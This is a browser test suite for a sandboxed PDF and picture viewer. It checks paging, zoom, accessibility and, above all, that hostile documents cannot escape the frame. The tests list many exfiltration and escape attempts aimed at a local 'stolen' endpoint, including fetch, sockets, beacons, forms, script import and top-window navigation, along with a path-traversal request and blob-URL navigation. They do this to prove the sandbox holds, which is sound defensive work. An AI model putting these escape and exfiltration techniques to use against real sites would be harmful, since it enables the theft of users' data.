// PDFs and pictures, and what can be reached from where they are drawn: nothing.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { base, json } from "./chromium.mjs";
import { context, on, state } from "./stage.mjs";

const opened = async (name, want = "shown") => {
  const page = await on(name);
  await page.click("evidence-player button");
  await state(page, want);
  return page;
};
const drawn = page => page.frames().find(f => f !== page.mainFrame());
const said = (page, text) => page.locator(".evidence-player__page", { hasText: text }).waitFor();
const stolen = async () => (await json("/asked")).asked.filter(a => a.includes("stolen"));

/** untouched: nothing left the frame, nothing of ours was reached, and no window was opened. */
async function untouched(page) {
  assert.deepEqual(await stolen(), []);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.equal(context.pages().length, 1);
  assert.equal(page.url(), base + "/");
}

describe("a document", () => {
  test("shows page by page, by buttons and by keys, and larger", async () => {
    const page = await opened("report");
    await said(page, "Page 1 of 3");
    const ink = () => drawn(page).evaluate(() => {
      const c = document.querySelector("canvas");
      const { data } = c.getContext("2d").getImageData(0, 0, c.width, c.height);
      return data.filter((v, i) => i % 4 === 0 && v < 100).length;
    }); // prettier-ignore
    assert.ok((await ink()) > 500, "nothing is drawn");
    await page.click("text=Next page");
    await said(page, "Page 2 of 3");
    await page.click("text=Previous page");
    await said(page, "Page 1 of 3");
    await page.locator("text=Next page").dblclick(); // the second press comes while the first page is drawn
    await said(page, "Page 3 of 3");
    await page.click("text=Previous page");
    await said(page, "Page 2 of 3");
    await page.getByLabel("Go to page").fill("3");
    await page.keyboard.press("Enter");
    await said(page, "Page 3 of 3. It has no text");
    const main = drawn(page).locator("main");
    await page.evaluate(() => document.addEventListener("evidence-active", () => (window.reading = true), true));
    await main.click();
    await page.waitForFunction(() => window.reading); // whoever reads is at work: nothing may lock under her
    await page.keyboard.press("PageUp");
    await said(page, "Page 2 of 3");
    await main.evaluate(m => (m.scrollTop = m.scrollHeight));
    await page.keyboard.press("PageDown");
    await said(page, "Page 3 of 3");
    const width = () => drawn(page).evaluate(() => document.querySelector(".page").getBoundingClientRect().width);
    const before = await width();
    await page.keyboard.press("+");
    await drawn(page).waitForFunction(w => document.querySelector(".page").getBoundingClientRect().width > w, before);
    await page.click("text=Larger"); // than by the key
    await drawn(page).waitForFunction(w => document.querySelector(".page").getBoundingClientRect().width > 1.5 * w, before);
    await main.focus();
    await page.keyboard.press("0");
    await drawn(page).waitForFunction(w => Math.abs(document.querySelector(".page").getBoundingClientRect().width - w) < 2, before);
    assert.deepEqual(page.complaints, []);
  });

  test("can be read aloud and copied", async () => {
    const page = await opened("report");
    await said(page, "Page 1 of 3");
    const text = drawn(page).locator(".text");
    assert.match(await text.innerText(), /Record of video interview[^]*She says that it was raining/);
    const main = drawn(page).locator("main");
    assert.equal(await main.getAttribute("aria-label"), "Page 1 of 3");
    assert.equal(await page.getAttribute("iframe", "title"), "Document JRS/1");
    assert.equal(await drawn(page).title(), "Document JRS/1");
  });

  for (const [name, words] of Object.entries({ "pdf-gone": "Damaged: save a copy", pdf: "Damaged: save a copy", "pdf-locked": "It has a password: save a copy" })) {
    test(`${name} says what to do`, async () => {
      const page = await opened(name, "cannot");
      await page.getByText(words).waitFor();
      assert.equal(await page.locator("iframe").count(), 0);
      await page.click("button >> text=Save a copy");
      assert.equal(await page.evaluate(() => window.told.at(-1)[0]), "export");
    });
  }

  for (const name of ["pdf-script", "pdf-link", "pdf-attached", "pdf-font", "pdf-astray", "mp4-pdf"]) {
    test(`${name} is a document and nothing more`, async () => {
      const page = await opened(name);
      await said(page, "Page 1 of 1");
      await drawn(page).locator("main").click({ position: { x: 150, y: 150 } });
      await drawn(page).locator("main").focus();
      await page.keyboard.press("Enter");
      await page.click("text=Next page"); // which there is none of
      assert.match(await drawn(page).locator(".text").innerText(), /What was said to the officer/);
      assert.equal(await drawn(page).evaluate(() => document.querySelectorAll("a, form, input, iframe, embed, object").length), 0);
      await untouched(page);
    });
  }
});

describe("whoever gets hold of a frame", () => {
  for (const name of ["report", "png"]) {
    test(`finds nothing of ours in it, and no way out: ${name}`, async () => {
      const page = await opened(name);
      const f = drawn(page);
      assert.equal(await page.getAttribute("iframe", "sandbox"), "allow-scripts");
      const found = await f.evaluate(async base => {
        const stolen = base + "/stolen?the+statement";
        const out = { origin: self.origin };
        const tries = {
          "the page": () => parent.document.title,
          "its island": () => parent.player,
          storage: () => localStorage.length,
          session: () => sessionStorage.length,
          cookie: () => document.cookie,
          databases: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }),
          caches: () => caches.keys(),
          files: () => navigator.storage.getDirectory(),
          fetch: () => fetch(stolen),
          "fetch without an answer": () => fetch(stolen, { mode: "no-cors" }),
          socket: () => new Promise((yes, no) => { const s = new WebSocket(stolen.replace("http", "ws")); s.onopen = yes; s.onerror = no; }),
          events: () => new Promise((yes, no) => { const s = new EventSource(stolen); s.onopen = yes; s.onerror = no; }),
          picture: () => new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no, src: stolen })),
          script: () => new Promise((yes, no) => document.head.append(Object.assign(document.createElement("script"), { onload: yes, onerror: no, src: trustedTypes.createPolicy("any", { createScriptURL: s => s }).createScriptURL(stolen) }))),
          program: () => import(stolen),
          code: () => new Function("return 1")(),
          window: () => { if (!open(stolen)) throw new Error("none"); },
          "our worker": () => navigator.serviceWorker.controller.state,
        }; // prettier-ignore
        for (const [what, how] of Object.entries(tries)) {
          try {
            await how();
            out[what] = "REACHED";
          } catch (e) {
            out[what] = "no";
          }
        }
        navigator.sendBeacon(stolen, "x");
        const form = Object.assign(document.createElement("form"), { action: stolen, method: "post" });
        document.body.append(form);
        form.submit();
        for (const rel of ["prefetch", "preload", "stylesheet", "icon", "manifest"]) document.head.append(Object.assign(document.createElement("link"), { rel, href: stolen, as: "fetch" }));
        document.body.append(Object.assign(document.createElement("iframe"), { src: stolen }));
        try { top.location = stolen; } catch { out.top = "no"; }
        return out;
      }, base); // prettier-ignore
      const { origin, top, ...rest } = found;
      assert.equal(origin, "null");
      assert.deepEqual(Object.entries(rest).filter(([, v]) => v !== "no"), []); // prettier-ignore
      await f.evaluate(to => void (location.href = to), base + "/stolen?the+statement").catch(() => undefined);
      await json("/item/report"); // a request that was made before would have come by now
      await page.evaluate(() => new Promise(r => setTimeout(r, 300)));
      await untouched(page);
    });
  }

  test("is not believed, whatever it says, and gets no file but the few", async () => {
    const page = await on("report");
    // Somebody else's code in the frame's place, as a hostile document might wish for.
    await page.route("**/insheet.js", r => r.fulfill({ contentType: "text/javascript", body: `addEventListener("message", ({ data, ports: [p] }) => {
      window.got = [];
      p.onmessage = e => window.got.push([e.data.piece, e.data.bytes && e.data.bytes.byteLength]);
      for (const m of [null, 1, "x", {}, { page: -1, pages: 3 }, { page: 9, pages: 3 }, { page: 1.5, pages: 2 }, { width: 1e9, height: 1 }, { failed: "<b>x</b>" },
        { want: "../session" }, { want: "client.wasm" }, { want: "FoxitSymbol.pfb" }, { page: "<img>", pages: 3 }, { page: 2, pages: 3, picture: "<img>", more: "x" }]) p.postMessage(m);
    })` })); // prettier-ignore
    await page.click("evidence-player button");
    await state(page, "shown");
    await said(page, "Page 2 of 3");
    await drawn(page).waitForFunction(() => window.got.length === 3);
    assert.deepEqual(await drawn(page).evaluate(() => window.got), [["../session", null], ["client.wasm", null], ["FoxitSymbol.pfb", 16729]]); // prettier-ignore
    assert.equal(await page.locator("evidence-player b, evidence-player img").count(), 0);
    // It leads itself elsewhere, to a place that it made: it is taken away.
    await drawn(page).evaluate(() => void (location.href = URL.createObjectURL(new Blob(["<script>top.hacked=1</script>"], { type: "text/html" }))));
    await page.locator("iframe").waitFor({ state: "detached" });
    await untouched(page);
  });
});

test("a picture is seen, and one that is none says so", async () => {
  const page = await opened("png");
  const image = drawn(page).locator("img");
  await drawn(page).waitForFunction(() => document.querySelector("img").naturalWidth === 40);
  assert.equal(await image.getAttribute("alt"), "Picture JRS/1");
  const width = (await image.boundingBox()).width;
  await page.click("text=Larger");
  await drawn(page).waitForFunction(w => document.querySelector("img").getBoundingClientRect().width > w, width);
  assert.deepEqual(page.complaints, []);
});

test("letters that no PC here can draw are owned up to", async () => {
  const page = await opened("pdf-foreign");
  await page.getByText("Something is not drawn: save a copy").waitFor();
});
